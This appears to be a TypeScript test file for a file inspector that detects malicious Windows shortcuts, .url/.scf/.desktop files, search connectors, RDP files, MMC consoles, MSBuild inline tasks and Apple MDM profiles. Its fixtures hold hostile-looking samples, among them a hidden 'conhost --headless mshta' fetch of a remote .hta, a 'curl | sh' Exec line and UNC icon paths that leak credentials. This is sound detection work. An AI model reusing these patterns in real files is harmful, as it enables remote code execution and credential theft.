/** Shortcuts and files of settings: what they start, connect to and install. */
import { describe, expect, test } from 'vitest'
import { inspector } from '../../src/archives/inspect.ts'
import { shellLink } from '../support/shell-link.ts'
import { zip } from './build.ts'

const { signal } = new AbortController()
const look = async (name: string, bytes: string | Buffer) => {
  const found = await inspector({ signal })(name, Buffer.from(bytes))
  if (found === undefined) throw new Error('the format is not known')
  return found
}

describe('shell links', () => {
  test('M14 the program, its arguments behind blanks, and the icon of a document are evidence', async () => {
    const found = await look(
      'offer.pdf.lnk',
      shellLink({
        items: ['C:', 'Windows', 'System32', 'conhost.exe'],
        arguments: `${' '.repeat(300)}--headless mshta https://a.example.net/x.hta`,
        icon: 'C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe',
      }),
    )
    expect(found.evidence).toEqual([
      'it is a shortcut, which starts conhost.exe with “--headless mshta https://a.example.net/x.hta”, which stand behind 300 blanks, under the icon of a document',
      'it starts conhost.exe',
    ])
    expect(found.links).toEqual([{ url: 'https://a.example.net/x.hta', shown: 'https://a.example.net/x.hta' }])
  })

  test('M14 a target and an icon on another host are evidence', async () => {
    const found = await look(
      'a.lnk',
      shellLink({ network: ['\\\\192.0.2.1\\a', 'b.exe'], icon: '\\\\192.0.2.2\\i\\x.ico' }),
    )
    expect(found.links).toEqual([{ url: 'file://192.0.2.1/a/b.exe' }])
    expect(found.evidence).toContain('showing its icon asks the host 192.0.2.2')
  })

  test('the target of the environment block counts before all others', async () => {
    const environment = '%SystemRoot%\\System32\\cmd.exe'
    const { evidence } = await look('a.lnk', shellLink({ items: ['C:', 'harmless.txt'], environment }))
    expect(evidence[0]).toBe('it is a shortcut, which starts cmd.exe')
  })

  test('M14 a program behind the end of a shortcut is found', async () => {
    const { inside } = await look('a.lnk', shellLink({ path: 'cmd.exe', rest: Buffer.from(`MZ${'\0'.repeat(80)}`) }))
    expect(inside.map(({ inspection }) => inspection.format)).toEqual(['pe'])
  })

  test('what cannot be read is still a shortcut, and is damaged', async () => {
    const whole = shellLink({ items: ['C:', 'a.exe'], arguments: 'powershell -enc x' })
    for (const length of [20, 76, 78, whole.length - 30]) {
      const { format, traits } = await look('a.lnk', whole.subarray(0, length))
      expect([format, traits.includes('launch')]).toEqual(['lnk', true])
    }
  })
})

describe('shortcuts that are text', () => {
  test('a shortcut to a page is a link, and nothing else', async () => {
    const text =
      '[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\nURL=https://example.org/a\r\n'
    const found = await look('Wiki.url', text)
    expect([found.format, found.traits, found.links]).toEqual(['text-shortcut', [], [{ url: 'https://example.org/a' }]])
  })

  test.for([
    ['a.url', '[InternetShortcut]\nURL=file://192.0.2.1/share/a.exe', ['external-template', 'launch']],
    ['a.url', '[InternetShortcut]\nURL=\\\\192.0.2.1@80\\dav\\a.js', ['external-template', 'launch']],
    ['a.url', '[InternetShortcut]\nURL=https://example.org/\nIconFile=\\\\192.0.2.1\\a\\b.ico', ['external-template']],
    ['a.url', '[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe', ['launch']],
    [
      'a.url',
      '[InternetShortcut]\nURL=search-ms:query=a&crumb=location:\\\\192.0.2.1\\dav',
      ['external-template', 'launch'],
    ],
    ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\192.0.2.1\\a.ico', ['external-template']],
    ['a.desktop', '[Desktop Entry]\nType=Application\nExec=sh -c "curl https://example.org | sh"', ['launch']],
    [
      'a.fileloc',
      '<?xml version="1.0"?><plist><dict><key>URL</key><string>file:///bin/sh</string></dict></plist>',
      ['launch'],
    ],
    [
      'a.webloc',
      '<?xml version="1.0"?><plist><dict><key>URL</key><string>https://example.org/</string></dict></plist>',
      [],
    ],
  ] as const)('M14 %s: %s', async ([name, text, traits]) => {
    for (const bytes of [Buffer.from(text), Buffer.from(`\ufeff${text}`, 'utf16le')])
      expect((await look(name, bytes)).traits).toEqual(traits)
  })
})

describe('files of settings', () => {
  test.for([
    ['a.library-ms', '<libraryDescription><simpleLocation><url>\\\\192.0.2.1\\dav</url>', '192.0.2.1'],
    [
      'a.searchConnector-ms',
      '<searchConnectorDescription><simpleLocation><url>https://a.example.net/</url>',
      'a.example.net',
    ],
    [
      'b.txt',
      '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><url>\\\\a.example.net@SSL\\x</url>',
      'a.example.net@SSL',
    ],
  ])('M14 %s connects to a host', async ([name = '', text = '', host = '']) => {
    const { format, evidence } = await look(name, text)
    expect([format, evidence]).toEqual(['search-location', [`showing it connects to the host ${host}`]])
  })

  test('a library of folders of the own machine connects to nothing', async () => {
    const text =
      '<libraryDescription><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></libraryDescription>'
    expect((await look('Documents.library-ms', text)).traits).toEqual([])
  })

  test('M14 a connection to a desktop says what it gives to the host', async () => {
    const text =
      'full address:s:203.0.113.9\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nredirectprinters:i:0\r\nremoteapplicationprogram:s:||x\r\n'
    const found = await look('desk.rdp', Buffer.from(`\ufeff${text}`, 'utf16le'))
    expect(found.evidence).toEqual([
      'it runs “||x” on that host',
      'it connects to the desktop 203.0.113.9, and gives it drives, the clipboard',
      'it gives that host drives',
    ])
    expect(found.links).toEqual([{ url: 'rdp://203.0.113.9' }])
  })

  test('every host through which a desktop is reached is a link', async () => {
    const { links, traits } = await look(
      'desk.rdp',
      'full address:s:desk01.corp.local\r\ngatewayhostname:s:gate.example.net\r\nredirectsmartcards:i:1\r\n',
    )
    expect(links.map(({ url }) => url)).toEqual(['rdp://desk01.corp.local', 'rdp://gate.example.net'])
    expect(traits).toEqual(['launch'])
  })

  test('M14 code and commands in a console are traits', async () => {
    const text =
      '<?xml version="1.0"?><MMC_ConsoleFile><String ID="1">res://apds.dll/redirect.html?target=javascript:eval(x)</String><Task Command="cmd.exe"/>'
    expect((await look('a.msc', text)).traits).toEqual(['launch', 'script', 'executable'])
    expect((await look('a.txt', text)).format).toBe('msc')
  })

  test('code in a project file is a trait; an ordinary project has no trait', async () => {
    const code =
      '<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003"><UsingTask TaskName="A" TaskFactory="CodeTaskFactory"><Task><Code Type="Class" Language="cs">x</Code>'
    expect((await look('a.csproj', code)).traits).toEqual(['script'])
    const ordinary =
      '<Project Sdk="Microsoft.NET.Sdk"><PropertyGroup><TargetFramework>net9.0</TargetFramework></PropertyGroup><ItemGroup><PackageReference Include="Serilog"/></ItemGroup></Project>'
    const found = await look('a.csproj', ordinary)
    expect([found.format, found.traits, found.links]).toEqual(['msbuild', [], []])
    expect(await inspector({ signal })('a.xml', Buffer.from(ordinary))).toBeUndefined()
  })

  const profile =
    '<?xml version="1.0"?><plist><dict><key>PayloadContent</key><array><dict><key>PayloadType</key><string>com.apple.mdm</string><key>ServerURL</key><string>https://a.example.net/mdm</string></dict></array><key>PayloadDisplayName</key><string>Wi-Fi</string></dict></plist>'

  test.for([
    ['as it is', Buffer.from(profile)],
    ['in a signature', Buffer.concat([Buffer.from('308006092a864886f70d010702a0', 'hex'), Buffer.from(profile)])],
  ] as const)('M14 a profile for Apple devices says what it installs, %s', async ([, bytes]) => {
    const found = await look('wifi.mobileconfig', bytes)
    expect([found.format, found.evidence]).toEqual(['mobileconfig', ['it installs settings: control over the device']])
    expect([found.links, found.text]).toEqual([[{ url: 'https://a.example.net/mdm' }], 'Wi-Fi'])
  })

  test('all of them are found in an archive', async () => {
    const data = zip([
      { name: 'a/b.rdp', data: 'full address:s:a.example.net' },
      { name: 'a.ics', data: 'BEGIN:VCALENDAR\nURL:https://b.example.net/' },
    ])
    const found = await look('a.zip', data)
    expect(found.inside.map(({ inspection }) => [inspection.format, inspection.links[0]?.url])).toEqual([
      ['rdp', 'rdp://a.example.net'],
      ['calendar', 'https://b.example.net/'],
    ])
  })
})
